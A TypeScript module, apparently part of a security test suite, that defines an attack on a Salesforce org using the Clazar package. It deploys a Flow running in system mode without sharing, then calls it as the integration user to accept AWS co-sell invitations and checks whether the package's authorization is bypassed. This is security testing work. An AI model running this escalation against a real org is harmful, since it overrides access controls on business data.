import { ifShown } from './attack.ts';
import type { Attack } from './attack.ts';
import { deployFiles } from './soap.ts';
import type { Victim } from './victim.ts';

const name = 'Accept_Anything';

/** A Flow of the org's own that runs with all rights and calls the package's action. */
const flow = `<Flow xmlns="http://soap.sforce.com/2006/04/metadata">
  <actionCalls>
    <name>Accept</name><label>Accept</label><locationX>0</locationX><locationY>0</locationY>
    <actionName>clazar__AcceptAwsCosellOpportunity</actionName><actionType>apex</actionType>
    <flowTransactionModel>CurrentTransaction</flowTransactionModel>
    <inputParameters>
      <name>cosellOpportunityId</name><value><elementReference>invitation</elementReference></value>
    </inputParameters>
    <outputParameters><assignToReference>said</assignToReference><name>message</name></outputParameters>
  </actionCalls>
  <apiVersion>66.0</apiVersion><environments>Default</environments><label>Accept Anything</label>
  <processType>AutoLaunchedFlow</processType><runInMode>SystemModeWithoutSharing</runInMode>
  <start>
    <locationX>0</locationX><locationY>0</locationY>
    <connector><targetReference>Accept</targetReference></connector>
  </start>
  <status>Active</status>
  <variables>
    <name>invitation</name><dataType>String</dataType><isCollection>false</isCollection><isInput>true</isInput><isOutput>false</isOutput>
  </variables>
  <variables>
    <name>said</name><dataType>String</dataType><isCollection>false</isCollection><isInput>false</isInput><isOutput>true</isOutput>
  </variables>
</Flow>`;
const manifest = `<Package xmlns="http://soap.sforce.com/2006/04/metadata"><types><members>${name}</members><name>Flow</name></types><version>66.0</version></Package>`;

/** @param invitation finds one; @param writes counts what Clazar was asked to change */
export function systemFlow(
  invitation: (victim: Victim) => Promise<string>,
  writes: (victim: Victim) => number
): Attack {
  return {
    what: 'accepts an invitation through a Flow of its own that runs in system context',
    attempt: async (victim) => {
      const admin = await victim.as('System Administrator');
      const files = { 'package.xml': manifest, [`flows/${name}.flow`]: flow };
      const deployed = await deployFiles(victim, admin, files);
      if (!deployed.text.includes('<success>true</success>')) throw new Error(deployed.text);
      const before = writes(victim);
      const rep = await victim.as('Clazar Salesforce Integration User');
      const body = { inputs: [{ invitation: await invitation(victim) }] };
      const path = `/services/data/v66.0/actions/custom/flow/${name}`;
      const seen = await rep.send('POST', path, body);
      const isTried = seen.text.includes('said') || seen.text.includes('"isSuccess":false');
      return [
        ...(isTried ? [] : [`The Flow did not run: ${seen.text.slice(0, 300)}`]),
        ...ifShown(seen, 'Accepted'),
        ...(writes(victim) > before ? ['Clazar was asked to accept it'] : [])
      ];
    }
  };
}
